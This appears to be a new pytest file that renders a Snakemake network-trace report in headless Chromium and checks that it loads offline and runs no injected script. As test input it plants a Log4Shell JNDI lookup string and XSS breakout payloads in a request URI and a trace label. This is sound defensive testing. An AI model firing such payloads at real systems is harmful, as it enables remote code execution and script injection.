@@ -1,0 +1,336 @@
+"""The Snakemake report, opened in headless Chromium as a reader would open it.
+
+Runs the pipeline on a trace sheet with the bundled browsing trace and a small scan trace whose
+HTTP request URI carries script, builds `results/report.html`, and drives Debian's chromium over
+the DevTools protocol (`--remote-debugging-pipe`: JSON messages on file descriptors 3 and 4, so no
+websocket library and no browser download). Nothing is installed here; CI installs chromium with
+apt (see .ci/run).
+"""
+
+import contextlib
+import csv
+import fcntl
+import gzip
+import json
+import os
+import select
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+import pytest
+
+pytestmark = pytest.mark.browser
+
+REPO = Path(__file__).resolve().parents[1]
+CHROMIUM = Path("/usr/bin/chromium")
+CHROMIUM_FLAGS = (
+    "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
+    "--disable-background-networking", "--disable-component-update", "--disable-sync",
+    "--disable-quic", "--remote-debugging-pipe",
+)
+CATEGORIES = {"Validation", "Per trace", "Comparison", "Security"}
+# Script in a request URI: a <script> element, an event handler, and a way out of the <script>
+# blocks in which the report keeps its data. Any of them running opens an alert dialog.
+XSS_MARK = "tracelab-xss"
+HOSTILE_URI = (
+    "/?x=${jndi:ldap://198.18.0.2:1389/a}"
+    f"</script><script>alert('{XSS_MARK}')</script><svg/onload=alert('{XSS_MARK}')>"
+)
+HOSTILE_ROWS = 300  # enough of the bundled scan for its HTTP requests and a few windows
+TIMEOUT_S = 60
+# Top-level entries of the repo that a fresh checkout has not got.
+NOT_COPIED = {"results", ".snakemake", ".git", ".pytest_cache", ".hypothesis", ".venv"}
+
+
+class DevTools:
+    """Chromium's DevTools protocol over the pipe Chromium opens with --remote-debugging-pipe."""
+
+    def __init__(self, profile_dir: Path, log_path: Path):
+        commands_read, self._commands = os.pipe()
+        self._replies, replies_write = os.pipe()
+        # Chromium reads commands on fd 3 and writes replies on fd 4. Copies above 4 first, so
+        # that placing one pipe end on 3 or 4 cannot overwrite the other.
+        child_ends = [
+            fcntl.fcntl(fd, fcntl.F_DUPFD_CLOEXEC, 5) for fd in (commands_read, replies_write)
+        ]
+        os.close(commands_read)
+        os.close(replies_write)
+
+        def place_pipe_ends():
+            os.dup2(child_ends[0], 3)
+            os.dup2(child_ends[1], 4)
+
+        with open(log_path, "w") as log:
+            self.process = subprocess.Popen(
+                [str(CHROMIUM), *CHROMIUM_FLAGS, f"--user-data-dir={profile_dir}", "about:blank"],
+                stdin=subprocess.DEVNULL, stdout=log, stderr=log,
+                close_fds=False, preexec_fn=place_pipe_ends,
+            )
+        for fd in child_ends:
+            os.close(fd)
+        self._buffer = b""
+        self._last_id = 0
+        self.events = []
+
+    def send(self, method, session=None, **params):
+        self._last_id += 1
+        message = {"id": self._last_id, "method": method, "params": params}
+        if session:
+            message["sessionId"] = session
+        os.write(self._commands, json.dumps(message).encode() + b"\0")
+        deadline = time.monotonic() + TIMEOUT_S
+        while True:
+            reply = self._receive(deadline)
+            if reply.get("id") == self._last_id:
+                if "error" in reply:
+                    raise RuntimeError(f"{method}: {reply['error']}")
+                return reply["result"]
+            self._event(reply, session)
+
+    def wait_for(self, method, session, timeout_s=TIMEOUT_S):
+        deadline = time.monotonic() + timeout_s
+        while not any(event["method"] == method for event in self.events):
+            self._event(self._receive(deadline), session)
+
+    def _event(self, message, session):
+        self.events.append(message)
+        # A dialog blocks the page until answered; record it (it fails the test) and dismiss it.
+        if message.get("method") == "Page.javascriptDialogOpening":
+            self.send("Page.handleJavaScriptDialog", session=session, accept=False)
+
+    def _receive(self, deadline):
+        while b"\0" not in self._buffer:
+            left = deadline - time.monotonic()
+            if left <= 0:
+                raise TimeoutError("no message from chromium in time")
+            if select.select([self._replies], [], [], left)[0]:
+                chunk = os.read(self._replies, 1 << 20)
+                if not chunk:
+                    raise EOFError("chromium closed the DevTools pipe")
+                self._buffer += chunk
+        message, self._buffer = self._buffer.split(b"\0", 1)
+        return json.loads(message)
+
+    def evaluate(self, session, expression):
+        result = self.send(
+            "Runtime.evaluate", session=session, expression=expression,
+            returnByValue=True, awaitPromise=True,
+        )
+        if "exceptionDetails" in result:
+            raise AssertionError(f"{expression!r} threw: {result['exceptionDetails']}")
+        return result["result"].get("value")
+
+    def close(self):
+        try:
+            self.send("Browser.close")
+            self.process.wait(15)
+        except (OSError, RuntimeError, TimeoutError, EOFError, subprocess.TimeoutExpired):
+            self.process.kill()
+            self.process.wait()
+        finally:
+            os.close(self._commands)
+            os.close(self._replies)
+
+
+def write_hostile_trace(path):
+    """The bundled scan's first rows as a Wireshark CSV export, its first HTTP request's URI
+    replaced by HOSTILE_URI."""
+    with gzip.open(REPO / "data" / "log4j_scan.csv.gz", "rt", newline="") as source:
+        rows = list(csv.reader(source))[: HOSTILE_ROWS + 1]
+    request = next(row for row in rows if row[4] == "HTTP" and row[6].startswith("GET "))
+    request[6] = f"GET {HOSTILE_URI} HTTP/1.1 "
+    with gzip.open(path, "wt", newline="") as export:
+        csv.writer(export, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
+
+
+def run_snakemake(checkout, *args, check=True):
+    run = subprocess.run(
+        [sys.executable, "-m", "snakemake", *args], cwd=checkout, capture_output=True, text=True,
+        env={**os.environ, "PYTHONPATH": str(checkout / "workflow")}, timeout=1200,
+    )
+    if check:
+        assert run.returncode == 0, f"snakemake {' '.join(args)}:\n{run.stderr[-8000:]}"
+    return run
+
+
+def require_chromium():
+    if not CHROMIUM.exists():
+        # CI installs chromium: there its absence is a failure, not a skip.
+        (pytest.fail if os.environ.get("CI") else pytest.skip)(
+            f"{CHROMIUM} not found (Debian package chromium)"
+        )
+
+
+def checkout_with_traces(tmp_path_factory, name, hostile_label="scan"):
+    """A copy of the repo whose trace sheet holds the hostile scan and the bundled browsing."""
+    checkout = tmp_path_factory.mktemp(name) / "tracelab"
+    shutil.copytree(
+        REPO, checkout, symlinks=True,
+        ignore=lambda folder, names: NOT_COPIED.intersection(names)
+        if Path(folder) == REPO else {"__pycache__"},
+    )
+    write_hostile_trace(checkout / "data" / "hostile_scan.csv.gz")
+    with open(checkout / "config" / "traces.tsv", "w", newline="") as sheet:
+        rows = csv.writer(sheet, delimiter="\t", lineterminator="\n")
+        rows.writerow(["trace", "path", "format", "label", "timezone", "description"])
+        rows.writerow(["hostile_scan", "data/hostile_scan.csv.gz", "wireshark_csv",
+                       hostile_label, "UTC", "scan whose URI carries script"])
+        rows.writerow(["web_browsing", "data/web_browsing.csv.gz", "wireshark_csv",
+                       "normal", "UTC", "bundled browsing"])
+    return checkout
+
+
+@contextlib.contextmanager
+def opened(report_html):
+    """The report loaded in a fresh Chromium profile: (browser, session)."""
+    browser_dir = Path(tempfile.mkdtemp(prefix="tracelab-chromium-"))
+    browser = DevTools(browser_dir / "profile", browser_dir / "chromium.log")
+    try:
+        target = browser.send("Target.createTarget", url="about:blank")["targetId"]
+        session = browser.send("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]
+        for domain in ("Page", "Runtime", "Log", "Network"):
+            browser.send(f"{domain}.enable", session=session)
+        browser.send("Page.navigate", session=session, url=report_html.as_uri())
+        browser.wait_for("Page.loadEventFired", session)
+        yield browser, session
+    finally:
+        browser.close()
+        shutil.rmtree(browser_dir, ignore_errors=True)
+
+
+@pytest.fixture(scope="module")
+def report(tmp_path_factory):
+    require_chromium()
+    checkout = checkout_with_traces(tmp_path_factory, "report")
+    run_snakemake(checkout, "--cores", "2")
+    run_snakemake(checkout, "--report", "results/report.html")
+    return checkout
+
+
+@pytest.fixture(scope="module")
+def page(report):
+    with opened(report / "results" / "report.html") as (browser, session):
+        # The report is a React app: it has rendered once its navigation links are there.
+        browser.evaluate(session, """new Promise((resolve, reject) => {
+            const started = Date.now();
+            (function poll() {
+                if (document.querySelector('#app a')) resolve(true);
+                else if (Date.now() - started > 20000) reject(new Error('report did not render'));
+                else setTimeout(poll, 100);
+            })();
+        })""")
+        yield browser, session
+
+
+def page_problems(browser):
+    """Uncaught exceptions, console errors, failed loads and any dialog, as readable lines."""
+    problems = []
+    for event in browser.events:
+        method, params = event.get("method"), event.get("params", {})
+        if method == "Runtime.exceptionThrown":
+            problems.append(f"exception: {params['exceptionDetails']}")
+        elif method == "Runtime.consoleAPICalled" and params["type"] in ("error", "assert"):
+            problems.append(f"console.{params['type']}: {params['args']}")
+        elif method == "Log.entryAdded" and params["entry"]["level"] == "error":
+            problems.append(f"log: {params['entry']}")
+        elif method == "Network.loadingFailed":
+            problems.append(f"load failed: {params}")
+        elif method == "Page.javascriptDialogOpening":
+            problems.append(f"a script ran and opened a dialog: {params['message']!r}")
+    return problems
+
+
+def test_report_is_self_contained_and_loads_without_errors(page):
+    browser, session = page
+    requested = [
+        event["params"]["request"]["url"] for event in browser.events
+        if event.get("method") == "Network.requestWillBeSent"
+    ]
+    assert requested and all(url.startswith(("file:", "data:")) for url in requested), requested
+    assert page_problems(browser) == []
+
+
+def test_report_has_every_category_comparison_and_caption(page, report):
+    browser, session = page
+    assert set(browser.evaluate(session, "Object.keys(categories)")) == CATEGORIES
+    in_report = set(browser.evaluate(session, "Object.keys(results)"))
+    comparisons = {
+        str(path.relative_to(report)) for path in (report / "results" / "compare").iterdir()
+    }
+    assert comparisons - in_report == set()
+    uncaptioned = browser.evaluate(
+        session,
+        "Object.entries(results).filter(([path, r]) => !r.caption.trim()).map(([path]) => path)",
+    )
+    assert uncaptioned == []
+
+
+def test_every_figure_is_shown(page, report):
+    browser, session = page
+    figures = sorted(
+        str(path.relative_to(report)) for path in (report / "results").rglob("*.png")
+    )
+    in_report = browser.evaluate(
+        session,
+        "Object.keys(results).filter(p => results[p].mime_type === 'image/png').sort()",
+    )
+    assert in_report == figures
+    for figure in figures:
+        # What the report's own "view" button does, then wait for the picture to be decoded.
+        size = browser.evaluate(session, f"""new Promise((resolve, reject) => {{
+            const path = {json.dumps(figure)};
+            app.setView({{content: "img", contentPath: results[path].data_uri, resultPath: path}});
+            const started = Date.now();
+            (function poll() {{
+                const img = document.querySelector('#app img[src="' + results[path].data_uri + '"]');
+                if (img && img.complete && img.naturalWidth > 0)
+                    resolve([img.naturalWidth, img.naturalHeight]);
+                else if (Date.now() - started > 10000) reject(new Error(path + ' not shown'));
+                else setTimeout(poll, 50);
+            }})();
+        }})""")
+        assert min(size) > 100, (figure, size)
+    assert page_problems(browser) == []
+
+
+def test_script_in_a_uri_runs_nowhere(page):
+    browser, session = page
+    # The hostile URI did reach the report's embedded results (else this test would prove nothing).
+    carriers = browser.evaluate(session, f"""Object.keys(results).filter(p => {{
+        const data = results[p].data_uri;
+        const bytes = atob(data.slice(data.indexOf('base64,') + 7));
+        return bytes.includes({json.dumps(XSS_MARK)});
+    }})""")
+    assert carriers, "the hostile URI is in no result embedded in the report"
+    # Open every result the report shows in the page (HTML in a frame); downloads are not opened.
+    for path in browser.evaluate(
+        session, "Object.keys(results).filter(p => results[p].mime_type === 'text/html')"
+    ):
+        browser.evaluate(session, f"""app.setView({{content: "html",
+            contentPath: results[{json.dumps(path)}].data_uri, resultPath: {json.dumps(path)}}})""")
+    # Give any script a chance to run, then make sure none did.
+    browser.evaluate(session, "new Promise(resolve => setTimeout(resolve, 500))")
+    assert page_problems(browser) == []
+
+
+def test_script_in_a_trace_label_runs_nowhere(tmp_path_factory):
+    """The label is free text from the trace sheet and reaches the report through the jobs'
+    params, which Snakemake embeds in a <script> block: it must be refused, or be inert."""
+    require_chromium()
+    checkout = checkout_with_traces(
+        tmp_path_factory, "label", hostile_label=f"scan</script><script>alert('{XSS_MARK}')</script>"
+    )
+    dry_run = run_snakemake(checkout, "--dry-run", check=False)
+    if dry_run.returncode != 0:
+        refusal = dry_run.stdout + dry_run.stderr
+        assert "label" in refusal, refusal[-3000:]
+        return
+    run_snakemake(checkout, "--cores", "2")
+    run_snakemake(checkout, "--report", "results/report.html")
+    with opened(checkout / "results" / "report.html") as (browser, session):
+        browser.evaluate(session, "new Promise(resolve => setTimeout(resolve, 500))")
+        assert page_problems(browser) == []
